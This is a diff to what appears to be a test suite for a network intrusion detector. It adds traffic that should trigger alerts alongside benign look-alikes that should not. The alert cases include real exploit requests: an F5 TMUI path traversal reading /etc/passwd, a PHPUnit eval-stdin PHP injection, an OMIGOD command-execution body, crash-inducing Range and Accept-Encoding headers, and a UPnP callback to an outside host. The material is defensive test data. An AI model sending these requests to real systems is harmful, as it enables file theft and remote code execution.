@@ -122,3 +122,42 @@ def health_checks(wire: Wire) -> None:
     for number in range(20):
         ask = b"GET /health HTTP/1.0\r\n\r\n"
         _ask(wire, ask, at=2.0 * number + wire.random.random(), client="10.0.0.3")
+
+
+@fires(title="known weakness")
+def known_weaknesses(wire: Wire) -> None:
+    """Paths and headers of published weaknesses: F5, PHPUnit, OMIGOD's body, a long list of ranges, Accept-Encoding of CVE-2021-31166."""
+    _ask(wire, request("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"), at=0)
+    _ask(
+        wire, request("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", method="POST", body=b"<?php echo 1;"), at=1
+    )
+    _ask(
+        wire,
+        request("/wsman", method="POST", body=b"<s:Body><p:ExecuteShellCommand_INPUT><p:command>id</p:command>"),
+        at=2,
+    )
+    _ask(wire, request("/", headers="Range: bytes=0-" + ",5-" * 30 + "\r\n"), at=3)
+    _ask(wire, request("/", headers="Accept-Encoding: doar-e, ftw, imo, ,\r\n"), at=4)
+
+
+@fires(title="malformed or dangerous")
+def call_stranger(wire: Wire) -> None:
+    """UPnP subscriptions whose events should go to a stranger (CVE-2020-12695)."""
+    for number in range(3):
+        ask = request("/event", method="SUBSCRIBE", headers="NT: upnp:event\r\nCallback: <http://203.0.113.99:80/>\r\n")
+        _ask(wire, ask, at=number)
+
+
+@silent()
+def upnp_subscription(wire: Wire) -> None:
+    """A player subscribes to a media server's events for itself."""
+    for number in range(3):
+        ask = request("/event", method="SUBSCRIBE", headers="NT: upnp:event\r\nCallback: <http://10.0.0.9:4004/>\r\n")
+        _ask(wire, ask, at=number, client="10.0.0.9")
+
+
+@silent()
+def resumed_download(wire: Wire) -> None:
+    """A download manager fetches three ranges, a browser accepts three encodings."""
+    ask = request("/big.iso", headers="Range: bytes=0-99,100-199,200-299\r\nAccept-Encoding: gzip, deflate, br\r\n")
+    _ask(wire, ask, client="10.0.0.9", server="198.51.100.9")
